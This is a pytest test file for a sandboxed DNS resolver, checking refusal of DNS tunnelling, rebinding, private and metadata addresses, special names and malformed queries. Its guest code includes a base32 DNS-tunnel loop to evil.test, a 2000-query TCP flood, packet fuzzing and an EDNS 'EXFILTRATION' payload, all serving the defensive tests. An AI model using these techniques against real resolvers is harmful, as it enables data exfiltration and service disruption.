"""The resolver: judged before asked, asked afresh, answers judged address by address. attacks.md D01-D13."""

import pytest

import world as w
from checks import FAMILIES, LIFTED, OTHER_DNS, REFUSE, TWINS, assert_name_refused

NXDOMAIN, NOERROR, SERVFAIL, FORMERR = 3, 0, 2, 1
TRANSPORTS = pytest.mark.parametrize("transport", ["udp", "tcp"])


@TWINS
@TRANSPORTS
@pytest.mark.parametrize("server", ["default", 4, 6])
def test_name(lab, verdict, transport, server):
    """Port 53 of any address ends at the resolver, over UDP and TCP, with one verdict."""
    name = "allowed.test" if verdict == "allow" else "evil.test"
    where = "None" if server == "default" else repr(OTHER_DNS[server])
    out = lab.guest(f"result = dns({name!r}, 'A', {where}, {transport!r})", allow=["allowed.test"])
    if server != "default":
        assert lab.world.packets_to(OTHER_DNS[server]) == 0, "the question reached the server that the guest chose"
    if verdict == "allow":
        assert out.result["addresses"] == [w.ALLOWED4] and out.result["rcode"] == NOERROR, out
        assert len(out.of_type("dns.answer", name=name)) == 1, out
    else:
        assert_name_refused(lab, out, out.result, name, [NXDOMAIN])


@TWINS
@FAMILIES
def test_both_record_types(lab, verdict, family):
    name = "allowed.test" if verdict == "allow" else "evil.test"
    kind, address = ("A", w.ALLOWED4) if family == 4 else ("AAAA", w.ALLOWED6)
    out = lab.guest(f"result = dns({name!r}, {kind!r})", allow=["allowed.test"])
    if verdict == "allow":
        assert out.result["addresses"] == [address], out
    else:
        assert_name_refused(lab, out, out.result, name, [NXDOMAIN])


@pytest.mark.refusal
def test_tunnel(lab):
    """D01: data in names goes nowhere, however often it is tried."""
    code = """
import base64
result = [dns(base64.b32encode(bytes([n]) * 20).decode().strip('=').lower() + '.evil.test', kind)['rcode']
          for n in range(20) for kind in ('A', 'TXT')]
"""
    out = lab.guest(code, allow=["allowed.test"])
    assert set(out.result) == {NXDOMAIN}, out
    assert not lab.world.dns_log.since(), lab.world.dns_log.since()
    assert len(out.of_type("dns.refuse")) >= 20, "no destination may be lost in a roll-up"


def test_a_stream_that_asks_without_end_stops_nobody_else(lab):
    """One connection to port 53 that pipelines faster than it is answered: everything else goes on beside it."""
    code = f"""
import threading
def framed(i):
    message = dns_query('evil.test', 'A', ident=i)
    return struct.pack('!H', len(message)) + message
flood = socket.create_connection(('8.8.8.8', 53), 5)
questions = b''.join(framed(i) for i in range(2000))
answered = threading.Event()
over = False
def ask():
    while not over: flood.sendall(questions)
def read():
    while flood.recv(1 << 16): answered.set()
for work in (ask, read): threading.Thread(target=work, daemon=True).start()
answered.wait(10)
result = dict(answered=answered.is_set(), others=[tcp({w.ALLOWED4!r}, 7, send='x', recv=1)['data'] for _ in range(20)])
over = True
"""
    out = lab.guest(code, allow=[w.ALLOWED4])
    assert out.result == {"answered": True, "others": ["x"] * 20}, out


@pytest.mark.refusal
def test_tunnel_through_a_sibling_of_an_allowed_name(lab):
    out = lab.guest("result = [dns(n)['rcode'] for n in ('data.allowed.test', 'xallowed.test', 'test', 'allowed.test.evil.test')]",
                    allow=["allowed.test"])
    assert out.result == [NXDOMAIN, NXDOMAIN, NOERROR, NXDOMAIN], out  # `test` is an ancestor: NODATA
    assert not lab.world.dns_log.since(), lab.world.dns_log.since()


def test_wildcard_vectors(lab):
    """policy.md section 10: allow *.wild.test: x.y.wild.test answered; wild.test (ancestor) NODATA + EDE."""
    out = lab.guest("result = [dns('a.b.wild.test'), dns('wild.test'), dns('xwild.test'), dns('a.wild.test', 'NS')]",
                    allow=["*.wild.test"])
    below, apex, beside, other_type = out.result
    assert below["addresses"] == [w.ALLOWED4], out
    assert apex["rcode"] == NOERROR and not apex["addresses"] and 15 in apex["ede"], out
    assert beside["rcode"] == NXDOMAIN, out
    assert other_type["rcode"] == NOERROR and not other_type["answers"], out


@pytest.mark.parametrize("name", ["private.test", "metadata.test", "loopback.test", "hostaddr.test", "lan.test",
                                  "zero.test", "mapped.test", "nat64.test"])
@pytest.mark.refusal
def test_allowed_name_with_forbidden_addresses(lab, name):
    """D05, C03, C04: the name is allowed, the addresses are not: NODATA, `rebind`, and no connection either."""
    entry = w.zone()[name]
    code = f"result = [dns({name!r}, 'A'), dns({name!r}, 'AAAA')] + [tcp(a, 80, timeout=3) for a in {entry.get('A', [])!r}" \
           " if not a.startswith(('127.', '0.'))]"
    out = lab.guest(code, allow=[name])
    for answer in out.result[:2]:
        assert answer["rcode"] == NOERROR and not answer["addresses"], out
    for seen in out.result[2:]:
        assert seen["connect"] == "ECONNREFUSED", out
    for address in entry.get("A", []):
        assert lab.world.packets_to(address, 80) == 0
    # Hard floor: `floor`, which no rule could open. Soft floor: `rebind`, an entry of its own would.
    reasons = {event["reason"] for event in out.of_type("dns.refuse", name=name)}
    assert reasons and reasons <= {"rebind", "floor"}, out


def test_mixed_answer_is_cut_down(lab):
    """D05: of four addresses one may be seen."""
    out = lab.guest("result = [dns('mixed.test', 'A')['addresses'], dns('mixed.test', 'AAAA')['addresses']]",
                    allow=["mixed.test"])
    assert out.result == [[w.ALLOWED4], [w.ALLOWED6]], out


@TWINS
def test_rebinding(lab, verdict):
    """D04: first public, then private, TTL 0. What was judged is dialled; the second answer opens nothing."""
    code = f"""
first = dns('rebind.test')['addresses']
second = dns('rebind.test')['addresses']
result = [first, second, tcp({w.ALLOWED4!r}, 7, send='\\0', recv=1), tcp({w.PRIVATE4!r}, 80, timeout=3)]
"""
    out = lab.guest(code, allow=["rebind.test"])
    first, second, good, bad = out.result
    if verdict == "allow":
        assert first == [w.ALLOWED4] and good["data"] == "\0", out
    else:
        assert second == [] and bad["connect"] == "ECONNREFUSED", out
        assert lab.world.packets_to(w.PRIVATE4) == 0


def test_vector_dual(lab):
    """policy.md section 10: A private, AAAA public."""
    out = lab.guest("result = [dns('dual.test', 'A'), dns('dual.test', 'AAAA')]", allow=["dual.test"])
    four, six = out.result
    assert four["rcode"] == NOERROR and four["addresses"] == [] and 15 in four["ede"], out
    assert six["addresses"] == [w.ALLOWED6], out


def test_cname_is_followed_and_flattened(lab):
    out = lab.guest("result = [dns('alias.test'), http_get(dns('alias.test')['addresses'][0], 80, 'alias.test')]",
                    allow=["alias.test"])
    answer, page = out.result
    assert answer["addresses"] == [w.ALLOWED4], out
    assert "200 OK" in page["data"], out


@TWINS
def test_vector_cname_to_a_denied_name(lab, verdict):
    """D06; policy.md section 10: deny looks at every name of the chain, allow at the asked one."""
    deny = ["tracker.test"] if verdict == "refuse" else []
    out = lab.guest("result = dns('to-tracker.test')", allow=["to-tracker.test"], deny=deny)
    if verdict == "allow":
        assert out.result["addresses"] == [w.ALLOWED4], out
    else:
        assert not out.result["addresses"] and 15 in out.result["ede"], out
        assert [e for e in out.events if e.get("reason") == "denied-by-rule"], out


@pytest.mark.parametrize("name", ["loop1.test", "lying-id.dns.test", "lying-question.dns.test", "servfail.dns.test",
                                  "refused.dns.test", "garbage.dns.test", "pointer-loop.dns.test",
                                  "truncated-for-ever.dns.test"])
def test_upstream_trouble(lab, name):
    """Bad upstreams: SERVFAIL to the guest, never an address, and the next name still works."""
    out = lab.guest(f"result = [dns({name!r}, timeout=25), dns('allowed.test')]", allow=[name, "allowed.test"], timeout=90)
    bad, good = out.result
    assert bad.get("rcode") == SERVFAIL and bad["addresses"] == [], out
    assert good["addresses"] == [w.ALLOWED4], out
    assert not out.of_type("dns.refuse"), "upstream trouble is not a refusal"


@pytest.mark.slow
def test_upstream_silent(lab):
    out = lab.guest("result = [dns('silent.dns.test', timeout=40), dns('allowed.test')]",
                    allow=["silent.dns.test", "allowed.test"], timeout=120)
    assert out.result[0].get("rcode") == SERVFAIL, out
    assert out.result[1]["addresses"] == [w.ALLOWED4], out


@pytest.mark.parametrize("name", ["truncated.dns.test", "slow.dns.test"])
def test_upstream_odd_but_honest(lab, name):
    out = lab.guest(f"result = dns({name!r}, timeout=20)", allow=[name], timeout=60)
    assert out.result["addresses"] == [w.ALLOWED4], out


def test_upstream_that_changes_the_case(lab):
    """0x20: over UDP an answer to another spelling is not the answer; over TCP, where nobody can forge it, it is."""
    out = lab.guest("result = dns('lower-case.dns.test', timeout=20)", allow=["lower-case.dns.test"], timeout=60)
    assert out.result["rcode"] == NOERROR and out.result["addresses"] == [w.ALLOWED4], out


def test_forged_answer_before_the_true_one(lab):
    """An answer with a wrong id is not believed; whatever comes of it, the forged address is not shown."""
    out = lab.guest("result = dns('lying-then-true.dns.test', timeout=25)", allow=["lying-then-true.dns.test"], timeout=60)
    assert w.EVIL4 not in out.result["addresses"], out


@pytest.mark.slow
def test_slow_name_does_not_stall_others(lab):
    """O05: one silent question, many good ones beside it."""
    code = """
import threading
slow = threading.Thread(target=dns, args=('silent.dns.test',), kwargs={'timeout': 8}); slow.start()
begin = time.monotonic()
answers = [dns('allowed.test')['addresses'] for _ in range(20)]
result = [all(answers), time.monotonic() - begin]
"""
    out = lab.guest(code, allow=["silent.dns.test", "allowed.test"], timeout=60)
    assert out.result[0] and out.result[1] < 3, out


def test_long_chain_is_bounded(lab):
    out = lab.guest("result = dns('chain0.test', timeout=20)", allow=["chain0.test"], timeout=60)
    assert out.result["addresses"] in ([], [w.ALLOWED4]), out


@TRANSPORTS
def test_huge_answer(lab, transport):
    """At most 32 addresses an answer; over UDP it fits or says that it does not."""
    out = lab.guest(f"result = dns('huge.test', 'A', None, {transport!r})", allow=["huge.test"])
    assert 0 < len(out.result["addresses"]) <= 32 or out.result["tc"], out
    out = lab.guest("result = resolve('huge.test', socket.AF_INET)", allow=["huge.test"])
    assert isinstance(out.result, list) and 0 < len(out.result) <= 32, out


@pytest.mark.parametrize("kind", ["TXT", "MX", "SRV", "HTTPS", "SVCB", "NS", "SOA", "NULL", "ANY", "CNAME", "PTR"])
def test_other_types_in_allowlist(lab, kind):
    """D07: NODATA, and nothing asked upstream."""
    out = lab.guest(f"result = dns('text.test', {kind!r})", allow=["text.test"])
    assert out.result["rcode"] == NOERROR and not out.result["answers"], out
    assert kind not in [entry["type"] for entry in lab.world.dns_log.since()], lab.world.dns_log.since()


def test_types_that_the_policy_lists(lab):
    policy = 'version = 1\nmode = "allowlist"\nallow = ["text.test"]\n[dns]\ntypes = ["TXT"]\n'
    out = lab.guest("result = [dns('text.test', 'TXT'), dns('text.test', 'MX')]", policy=policy)
    text, mail = out.result
    assert text["answers"] and bytes.fromhex(text["answers"][0][1])[1:] == b"hello from the lab", out
    assert not mail["answers"], out


def test_query_is_built_afresh(lab):
    """D07: nothing of the guest's message goes upstream but the name and the type."""
    out = lab.guest("result = dns_raw(dns_query('allowed.test', 'A', edns=struct.pack('!HH', 65001, 12) + b'EXFILTRATION', "
                    "ident=0x4242))", allow=["allowed.test"])
    assert out.result["answers"], out
    asked = lab.world.dns_log.since()
    assert asked and all("4558464c" not in entry["hex"].lower() and b"EXFIL".hex() not in entry["hex"] for entry in asked)
    assert all(entry["id"] != 0x4242 and entry["counts"][0] == 1 for entry in asked), asked


def test_case_is_mixed_upstream(lab):
    """0x20: over a few names of 12 letters, some letter is upper case."""
    lab.guest("result = [dns(f'a{n}bcdefghijk.wild.test')['rcode'] for n in range(6)]", allow=["*.wild.test"])
    asked = [entry["spelled"] for entry in lab.world.dns_log.since()]
    assert any(name != name.lower() for name in asked), asked
    assert len({entry["id"] for entry in lab.world.dns_log.since()}) > 3


@TRANSPORTS
@pytest.mark.parametrize("case", ["qdcount2", "qdcount0", "update", "notify", "response", "short", "label64", "pointer",
                                  "garbage", "class-chaos"])
def test_malformed(lab, transport, case):
    """D12: FORMERR (or silence), no crash, nothing upstream, the resolver goes on."""
    messages = {
        "qdcount2": "dns_query('allowed.test', 'A', counts=(2, 0, 0, 0)) + dns_query('evil.test', 'A')[12:]",
        "qdcount0": "struct.pack('!HHHHHH', 1, 256, 0, 0, 0, 0)",
        "update": "dns_query('allowed.test', 'A', flags=0x2800)", "notify": "dns_query('allowed.test', 'A', flags=0x2000)",
        "response": "dns_query('allowed.test', 'A', flags=0x8180)", "short": "b'\\x00\\x01\\x01'",
        "label64": "struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0) + b'\\x40' + b'a' * 64 + b'\\0' + b'\\0\\1\\0\\1'",
        "pointer": "struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0) + b'\\xc0\\x0c' + b'\\0\\1\\0\\1'",
        "garbage": "os.urandom(200)",
        "class-chaos": "dns_query('version.bind', 'TXT', counts=(1, 0, 0, 0))[:-1] + b'\\3'"}
    out = lab.guest(f"result = [dns_raw({messages[case]}, transport={transport!r}, timeout=1), dns('allowed.test')]",
                    allow=["allowed.test"])
    bad, good = out.result
    assert bad.get("error") or bad["rcode"] != NOERROR or not bad["answers"], out
    assert good["addresses"] == [w.ALLOWED4], out
    assert {entry["name"] for entry in lab.world.dns_log.since()} <= {"allowed.test"}


def test_many_queries_on_one_tcp_connection_in_small_pieces(lab):
    code = """
s = socket.create_connection((nameserver(), 53)); s.settimeout(5)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
message = dns_query('allowed.test', 'A')
stream = (struct.pack('!H', len(message)) + message) * 3
for byte in stream: s.send(bytes([byte]))
got = b''
while len(got) < 12: got += s.recv(4096)
result = len(got) > 12
"""
    assert lab.guest(code, allow=["allowed.test"]).result is True


@pytest.mark.slow
def test_random_messages(lab):
    """D12: a burst of noise over UDP; the resolver answers afterwards."""
    code = """
import random
random.seed(7)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((nameserver(), 53))
base = dns_query('allowed.test', 'A')
for _ in range(3000):
    message = bytearray(base)
    for _ in range(random.randint(1, 6)): message[random.randrange(len(message))] = random.randrange(256)
    try: s.send(bytes(message[:random.randint(0, len(message))]))
    except OSError: pass
answer = {}
for _ in range(20):
    answer = dns('allowed.test', timeout=2)
    if answer.get('addresses'): break
result = answer['addresses']
"""
    out = lab.guest(code, policy=LIFTED, allow=["allowed.test"], timeout=120)
    assert out.result == [w.ALLOWED4], out


@pytest.mark.parametrize("name", ["db", "printer.local", "metadata.google.internal", "1.77.168.192.in-addr.arpa",
                                  "_dns.resolver.arpa", "gateway.weir.internal.evil.test"])
@pytest.mark.refusal
def test_special_names(lab, name):
    """D13, B10: not asked upstream, no search list of the host."""
    out = lab.guest(f"result = dns({name!r}, 'PTR' if 'arpa' in {name!r} else 'A')", allow=["allowed.test"])
    assert not out.result["addresses"], out
    assert not lab.world.dns_log.since(), lab.world.dns_log.since()


def test_search_list_of_the_host_is_not_used(lab):
    """B10: the host searches corp.test; the sandbox does not."""
    out = lab.guest("result = resolve('db')", allow=["db.corp.test"])
    assert out.result.get("error"), out
    assert "db.corp.test" not in [entry["name"] for entry in lab.world.dns_log.since()]


def test_hosts_file_of_the_host_is_not_used(lab):
    out = lab.guest("result = resolve('from-hosts-file.test')", allow=["from-hosts-file.test"])
    assert isinstance(out.result, dict), out


def test_localhost(lab):
    out = lab.guest("result = [dns('localhost')['addresses'], dns('localhost', 'AAAA')['addresses'], resolve('localhost')]",
                    allow=["allowed.test"])
    assert out.result[0] == ["127.0.0.1"] and out.result[1] == ["::1"], out
    assert not lab.world.dns_log.since()


def test_name_by_allowed_entry_in_split_horizon(lab):
    """policy.md section 10: allow db.corp.test and its network: asked upstream, allowed."""
    out = lab.guest("result = [dns('db.corp.test')['addresses'], tcp('10.20.30.40', 80)['connect']]",
                    allow=["db.corp.test:80", "10.20.30.0/24:80"])
    assert out.result == [[w.PRIVATE4], "OK"], out


@pytest.mark.refusal
def test_address_without_a_name(lab):
    """D10: an address that the guest knows from elsewhere, though an allowed name leads to it: nobody asked."""
    out = lab.guest(f"result = tcp({w.ALLOWED4!r}, 2222)", allow=["allowed.test"])
    assert out.result["connect"] == "ECONNREFUSED", out
    assert lab.world.packets_to(w.ALLOWED4) == 0


def test_another_sandbox_does_not_inherit_names(lab):
    """D10: what one sandbox resolved opens nothing for the next."""
    lab.guest("result = resolve('allowed.test')", allow=["allowed.test"])
    lab.world.reset()
    out = lab.guest(f"result = tcp({w.ALLOWED4!r}, 2222)", allow=["allowed.test"])
    assert out.result["connect"] == "ECONNREFUSED" and lab.world.packets_to(w.ALLOWED4) == 0, out


def test_expired_name_is_asked_again(lab):
    """policy.md section 10: TTL 1, connect three seconds later."""
    out = lab.guest(f"resolve('short.test'); time.sleep(3); result = tcp({w.ALLOWED4!r}, 7, send='\\0', recv=1)",
                    allow=["short.test"])
    assert out.result["data"] == "\0", out


def test_none_has_no_names(lab):
    out = lab.guest("result = resolve('allowed.test')", mode="none")
    assert isinstance(out.result, dict), out
    assert not lab.world.dns_log.since()


@pytest.mark.parametrize("verdict", [REFUSE, "allow"])
def test_exact_dns_address_passes_untouched(lab, verdict):
    """policy.md section 4: the one exception, an exact address with port 53 written out."""
    allow = [f"{w.OTHER_DNS4}:53"] if verdict == "allow" else [w.OTHER_DNS4]
    out = lab.guest(f"result = dns('evil.test', 'A', {w.OTHER_DNS4!r}, 'tcp')", allow=allow)
    if verdict == "allow":
        assert out.result["addresses"] == [w.EVIL4], out
        assert lab.world.packets_to(w.OTHER_DNS4, 53) > 0
    else:
        assert not out.result["addresses"] and lab.world.packets_to(w.OTHER_DNS4) == 0, out


@pytest.mark.slow
def test_many_names_are_bounded(lab):
    """D10: 5,000 names under a wildcard; the book stays bounded and an early name can be asked again."""
    code = f"""
first = dns('n0.wild.test')['addresses']
for n in range(5000): dns(f'n{{n}}.wild.test', timeout=10)
result = [first, dns('n0.wild.test')['addresses'], tcp({w.ALLOWED4!r}, 7, send='\\0', recv=1)['data']]
"""
    out = lab.guest(code, policy=LIFTED, allow=["*.wild.test"], timeout=120)
    assert out.result == [[w.ALLOWED4], [w.ALLOWED4], "\0"], out


@TWINS
def test_deny_meets_the_chain_for_every_type(lab, verdict):
    """D06, D07: records of other types are no way around a denied name that the asked one stands for."""
    deny = ["tracker.test"] if verdict == "refuse" else ["unrelated.test"]
    out = lab.guest("result = dns('to-tracker.test', 'TXT')", mode="public", deny=deny)
    if verdict == "allow":
        assert out.result["rcode"] == NOERROR and not out.of_type("dns.refuse"), out
    else:
        assert out.result["rcode"] == NOERROR and not out.result["answers"] and 15 in out.result["ede"], out
        assert [event["reason"] for event in out.of_type("dns.refuse")] == ["denied-by-rule"], out
